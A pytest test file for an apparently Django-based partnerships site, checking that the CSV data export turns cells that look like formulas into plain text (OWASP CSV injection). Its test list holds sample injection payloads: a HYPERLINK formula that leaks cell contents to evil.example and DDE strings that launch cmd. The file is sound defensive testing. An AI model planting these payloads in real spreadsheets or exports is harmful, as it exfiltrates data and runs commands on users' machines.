"""Open data never carries a formula into a spreadsheet (OWASP "CSV injection")."""

import csv
import io

import pytest

from partnerships.exports import csv_cell
from tests.partnerships.factories import PartnershipFactory, PartnershipIndexPageFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1;"Leeds")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_name_that_starts_like_a_formula_reaches_the_spreadsheet_as_text(
    client, start_page, formula
):
    """German and English names alike (translators set the English one)."""
    PartnershipIndexPageFactory()
    PartnershipFactory(municipality_de=formula, municipality_en=formula, slug_de="x", slug_en="x")

    text = client.get("/en/partnerships/data.csv").content.decode()

    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name_de"] == "'" + formula
    assert rows[0]["name_en"] == "'" + formula


def test_ordinary_values_and_numbers_stay_as_they_are():
    assert csv_cell("Leeds") == "Leeds"
    assert csv_cell("Rostow am Don") == "Rostow am Don"
    assert csv_cell(-1.5492) == -1.5492  # a negative longitude is a number, not a formula
    assert csv_cell(None) == ""
    assert csv_cell("Sankt-Petersburg") == "Sankt-Petersburg"
